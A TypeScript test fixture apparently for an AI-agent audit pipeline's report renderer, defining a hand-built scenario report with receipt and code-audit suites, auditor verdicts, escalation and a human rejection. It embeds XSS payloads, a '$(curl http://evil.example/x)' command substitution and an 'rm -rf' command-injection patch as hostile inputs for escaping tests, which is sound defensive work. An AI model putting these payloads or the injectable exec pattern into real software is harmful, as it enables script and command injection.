import type { CaseAccount } from "../../../src/audit/queries.js";
import type { CaseAttempt, Metrics, ScenarioReport } from "../../../src/scenarios/report.js";

/**
 * A hand-built scenario report for the reporter tests: two suites, each case run three times;
 * a passed, a failed and an unstable case; hostile text wherever an agent (or a suite author)
 * can put text; an account with verdicts in two rounds, a cross-examination, an escalation
 * and a human decision. Every number is written out, not computed.
 */

/** Text an attacker would like a report to run. */
export const HOSTILE = {
  caseName: `<script>alert("name")</script> ]]> 'single' "double" & \u0000\u0007\u001b end`,
  failure: "expected decision rejected, got accepted: <img src=x onerror=alert(3)> ]]> \u0008",
  script: "<script>alert(1)</script>",
  img: "<img src=x onerror=alert(2)>",
  status: `done ' " & </pre><b>bold</b>`,
  rationale: "</pre></details><script>alert(4)</script>",
  findingMessage: `shell command built from input: $(curl http://evil.example/x) <iframe src="http://evil.example">`,
  evidenceSource: `<a href="javascript:alert(5)">manual</a>`,
  humanReason: "<style>body{display:none}</style> confirmed injection",
  suiteName: "code review & <injection>",
} as const;

const T0 = Date.UTC(2025, 2, 1, 9, 30, 0);

const HONEST_ACCOUNT: CaseAccount = {
  id: "case-honest",
  taskId: "receipt-001",
  taskKind: "receipt",
  inputSha256: "a".repeat(64),
  status: "accepted",
  decidedBy: "consensus",
  startedAt: T0,
  endedAt: T0 + 100,
  output: {
    content: { vendor: "KEDAI RUNCIT SRI MURNI", total: "15.90" },
    status: { claim: "extracted all fields" },
    claims: [],
    artifacts: [],
    supplied: false,
    traceEvents: 2,
  },
  workerFailures: [],
  evidence: [{ id: "ev-vendor-1", source: "registry/vendors.csv", contentHash: "b".repeat(64), score: 0.91 }],
  evidenceParams: { retriever: "vendor-registry", k: 3 },
  verdicts: [
    {
      auditor: "arithmetic",
      round: 0,
      decision: "pass",
      confidence: 1,
      rationale: "10.00 + 5.00 + 0.90 = 15.90",
      eventSeq: 4,
      findings: [],
    },
  ],
  crossExamRounds: [],
  decisions: [{ outcome: "accepted", policy: "unanimous", reasons: ["all auditors passed"], at: T0 + 90 }],
  escalation: null,
  humanDecision: null,
};

const HOSTILE_ACCOUNT: CaseAccount = {
  id: "case-hostile",
  taskId: "diff-042",
  taskKind: "diff",
  inputSha256: "c".repeat(64),
  status: "accepted",
  decidedBy: "consensus",
  startedAt: T0 + 1000,
  endedAt: T0 + 1400,
  output: {
    content: { patch: HOSTILE.script, note: HOSTILE.img },
    status: HOSTILE.status,
    claims: [{ text: "tests pass" }],
    artifacts: [],
    supplied: false,
    traceEvents: 5,
  },
  workerFailures: [],
  evidence: [{ id: "ev-cwe-78", source: HOSTILE.evidenceSource, contentHash: "d".repeat(64) }],
  evidenceParams: { retriever: "cwe-corpus", k: 2 },
  verdicts: [
    {
      auditor: "static-analysis",
      round: 0,
      decision: "fail",
      confidence: 0.9,
      rationale: HOSTILE.rationale,
      eventSeq: 6,
      findings: [
        {
          ruleId: "code.cwe-78",
          severity: "high",
          message: HOSTILE.findingMessage,
          location: { file: "src/run.ts", line: 12 },
          evidenceIds: ["ev-cwe-78"],
        },
      ],
    },
    {
      auditor: "model-reviewer",
      round: 0,
      decision: "pass",
      confidence: 0.7,
      rationale: "looks fine",
      eventSeq: 7,
      findings: [],
    },
    {
      auditor: "static-analysis",
      round: 1,
      decision: "pass",
      confidence: 0.6,
      rationale: "withdrawn after the worker's rebuttal",
      eventSeq: 10,
      findings: [],
    },
    {
      auditor: "model-reviewer",
      round: 1,
      decision: "pass",
      confidence: 0.8,
      rationale: "still fine",
      eventSeq: 11,
      findings: [],
    },
  ],
  crossExamRounds: [{ round: 1, disagreeing: ["static-analysis", "model-reviewer"], at: T0 + 1200 }],
  decisions: [
    { outcome: "accepted", policy: "majority", reasons: ["2 of 2 auditors passed"], at: T0 + 1390 },
  ],
  escalation: null,
  humanDecision: null,
};

const ESCALATED_ACCOUNT: CaseAccount = {
  id: "case-escalated",
  taskId: "diff-043",
  taskKind: "diff",
  inputSha256: "e".repeat(64),
  status: "rejected",
  decidedBy: "human",
  startedAt: T0 + 2000,
  endedAt: T0 + 9000,
  output: {
    content: { patch: "exec('rm -rf ' + dir)" },
    status: "done",
    claims: [],
    artifacts: [],
    supplied: false,
    traceEvents: 3,
  },
  workerFailures: [],
  evidence: [{ id: "ev-cwe-78", source: "cwe/78.md", contentHash: "f".repeat(64), score: 0.8 }],
  evidenceParams: { retriever: "cwe-corpus", k: 2 },
  verdicts: [
    {
      auditor: "static-analysis",
      round: 0,
      decision: "fail",
      confidence: 0.95,
      rationale: "template literal reaches exec",
      eventSeq: 20,
      findings: [
        {
          ruleId: "code.cwe-78",
          severity: "critical",
          message: "OS command injection via dir",
          location: { file: "src/clean.ts", line: 3, column: 5 },
          evidenceIds: ["ev-cwe-78"],
        },
      ],
    },
    {
      auditor: "model-reviewer",
      round: 0,
      decision: "pass",
      confidence: 0.55,
      rationale: "dir is a constant",
      eventSeq: 21,
      findings: [],
    },
    {
      auditor: "static-analysis",
      round: 1,
      decision: "fail",
      confidence: 0.95,
      rationale: "dir comes from the request",
      eventSeq: 24,
      findings: [
        {
          ruleId: "code.cwe-78",
          severity: "critical",
          message: "OS command injection via dir (confirmed)",
          location: { field: "patch" },
          evidenceIds: ["ev-cwe-78"],
        },
      ],
    },
    {
      auditor: "model-reviewer",
      round: 1,
      decision: "abstain",
      confidence: 0.4,
      rationale: "cannot tell where dir comes from",
      eventSeq: 25,
      findings: [],
    },
  ],
  crossExamRounds: [{ round: 1, disagreeing: ["model-reviewer", "static-analysis"], at: T0 + 2500 }],
  decisions: [
    {
      outcome: "escalated",
      policy: "any-critical-blocks",
      reasons: ["auditors disagree after 1 round", "a critical finding is disputed"],
      at: T0 + 3000,
    },
  ],
  escalation: {
    caseId: "case-escalated",
    runId: "run-b",
    status: "resumed",
    reason: "auditors disagree after 1 round",
    priority: "high",
    queue: "security",
    assignee: null,
    createdAt: T0 + 3000,
    decidedAt: T0 + 8000,
    resumedAt: T0 + 8500,
  },
  humanDecision: {
    id: 1,
    caseId: "case-escalated",
    reviewer: "dana@example.com",
    decision: "reject",
    reason: HOSTILE.humanReason,
    at: T0 + 8000,
    authenticatedBy: "oidc:dana",
  },
};

function attempt(fields: Partial<CaseAttempt> & Pick<CaseAttempt, "caseId" | "outcome">): CaseAttempt {
  return {
    runId: "run-a",
    final: undefined,
    findings: [],
    durationMs: 100,
    modelCalls: 0,
    tokensIn: 0,
    tokensOut: 0,
    costUsd: 0,
    failures: [],
    account: undefined,
    ...fields,
  };
}

const EMPTY_METRICS: Omit<Metrics, "cases" | "passed" | "failed" | "unstable"> = {
  decisionAccuracy: undefined,
  families: {},
  escalationRate: undefined,
  durationMs: { mean: undefined, p95: undefined },
  modelCalls: 0,
  tokensIn: 0,
  tokensOut: 0,
  costUsd: 0,
};

const TOTAL_FAILURES = [
  "expected decision rejected, got accepted",
  "expected finding receipt.total-mismatch, none found",
];

export const REPORT: ScenarioReport = {
  startedAt: "2025-03-01T09:30:00.250Z",
  durationMs: 4321,
  repeat: 3,
  suites: [
    {
      name: "receipts",
      file: "scenarios/receipts/suite.ts",
      workflow: "receipt-verification",
      startedAt: "2025-03-01T09:30:00.250Z",
      durationMs: 1830,
      cases: [
        {
          suite: "receipts",
          name: "honest grocery receipt",
          tags: ["honest"],
          status: "passed",
          expected: {
            outcome: "accepted",
            final: undefined,
            findings: [],
            absent: ["receipt.total-mismatch"],
          },
          attempts: [
            attempt({ caseId: "case-honest", outcome: "accepted", durationMs: 100, account: HONEST_ACCOUNT }),
            attempt({ caseId: "case-honest-2", outcome: "accepted", durationMs: 120 }),
            attempt({ caseId: "case-honest-3", outcome: "accepted", durationMs: 110 }),
          ],
          spread: { accepted: 3 },
          failures: [],
        },
        {
          suite: "receipts",
          name: "total off by ten",
          tags: ["arithmetic"],
          status: "failed",
          expected: {
            outcome: "rejected",
            final: undefined,
            findings: ["receipt.total-mismatch"],
            absent: [],
          },
          attempts: [
            attempt({
              caseId: "case-total-1",
              outcome: "accepted",
              durationMs: 200,
              failures: TOTAL_FAILURES,
            }),
            attempt({
              caseId: "case-total-2",
              outcome: "accepted",
              durationMs: 210,
              failures: TOTAL_FAILURES,
            }),
            attempt({
              caseId: "case-total-3",
              outcome: "accepted",
              durationMs: 190,
              failures: TOTAL_FAILURES,
            }),
          ],
          spread: { accepted: 3 },
          failures: TOTAL_FAILURES,
        },
        {
          suite: "receipts",
          name: "smudged vendor name",
          tags: ["vendor"],
          status: "unstable",
          expected: { outcome: "escalated", final: undefined, findings: [], absent: [] },
          attempts: [
            attempt({ caseId: "case-smudge-1", outcome: "accepted", durationMs: 300 }),
            attempt({ caseId: "case-smudge-2", outcome: "escalated", durationMs: 310 }),
            attempt({ caseId: "case-smudge-3", outcome: "accepted", durationMs: 290 }),
          ],
          spread: { accepted: 2, escalated: 1 },
          failures: [],
        },
      ],
      metrics: {
        ...EMPTY_METRICS,
        cases: 3,
        passed: 1,
        failed: 1,
        unstable: 1,
        decisionAccuracy: 0.5,
        families: {
          receipt: {
            recall: 0,
            expected: 1,
            found: 0,
            falsePositiveRate: 0,
            falsePositives: 0,
            negatives: 1,
          },
        },
        escalationRate: 0.1111,
        durationMs: { mean: 203.3, p95: 310 },
      },
    },
    {
      name: HOSTILE.suiteName,
      file: "scenarios/code/suite.ts",
      workflow: "code-audit",
      startedAt: "2025-03-01T09:30:02.100Z",
      durationMs: 2200,
      cases: [
        {
          suite: HOSTILE.suiteName,
          name: HOSTILE.caseName,
          tags: [],
          status: "failed",
          expected: { outcome: "rejected", final: undefined, findings: ["code.cwe-78"], absent: [] },
          attempts: [1, 2, 3].map((n) =>
            attempt({
              caseId: n === 1 ? "case-hostile" : `case-hostile-${n}`,
              runId: "run-b",
              outcome: "accepted",
              durationMs: 400,
              modelCalls: 1,
              tokensIn: 500,
              tokensOut: 100,
              costUsd: 0.004,
              failures: [HOSTILE.failure, "expected finding code.cwe-78, none found"],
              account: n === 1 ? HOSTILE_ACCOUNT : undefined,
            }),
          ),
          spread: { accepted: 3 },
          failures: [HOSTILE.failure, "expected finding code.cwe-78, none found"],
        },
        {
          suite: HOSTILE.suiteName,
          name: "shell injection goes to a human",
          tags: ["escalation"],
          status: "passed",
          expected: { outcome: "escalated", final: "rejected", findings: ["code.cwe-78"], absent: [] },
          attempts: [1, 2, 3].map((n) =>
            attempt({
              caseId: n === 1 ? "case-escalated" : `case-escalated-${n}`,
              runId: "run-b",
              outcome: "escalated",
              final: "rejected",
              durationMs: 7000,
              modelCalls: 2,
              tokensIn: 1500,
              tokensOut: 300,
              costUsd: 0.0123,
              findings: [
                {
                  ruleId: "code.cwe-78",
                  severity: "critical",
                  auditor: "static-analysis",
                  message: "OS command injection via dir (confirmed)",
                  field: "patch",
                },
              ],
              account: n === 1 ? ESCALATED_ACCOUNT : undefined,
            }),
          ),
          spread: { escalated: 3 },
          failures: [],
        },
      ],
      metrics: {
        cases: 2,
        passed: 1,
        failed: 1,
        unstable: 0,
        decisionAccuracy: 0.5,
        families: {
          code: {
            recall: 0.5,
            expected: 2,
            found: 1,
            falsePositiveRate: undefined,
            falsePositives: 0,
            negatives: 0,
          },
        },
        escalationRate: 0.5,
        durationMs: { mean: 3700, p95: 7000 },
        modelCalls: 9,
        tokensIn: 6000,
        tokensOut: 1200,
        costUsd: 0.0489,
      },
    },
  ],
  metrics: {
    cases: 5,
    passed: 2,
    failed: 2,
    unstable: 1,
    decisionAccuracy: 0.5,
    families: {
      code: {
        recall: 0.5,
        expected: 2,
        found: 1,
        falsePositiveRate: undefined,
        falsePositives: 0,
        negatives: 0,
      },
      receipt: { recall: 0, expected: 1, found: 0, falsePositiveRate: 0, falsePositives: 0, negatives: 1 },
    },
    escalationRate: 0.2667,
    durationMs: { mean: 1602, p95: 7000 },
    modelCalls: 9,
    tokensIn: 6000,
    tokensOut: 1200,
    costUsd: 0.0489,
  },
};
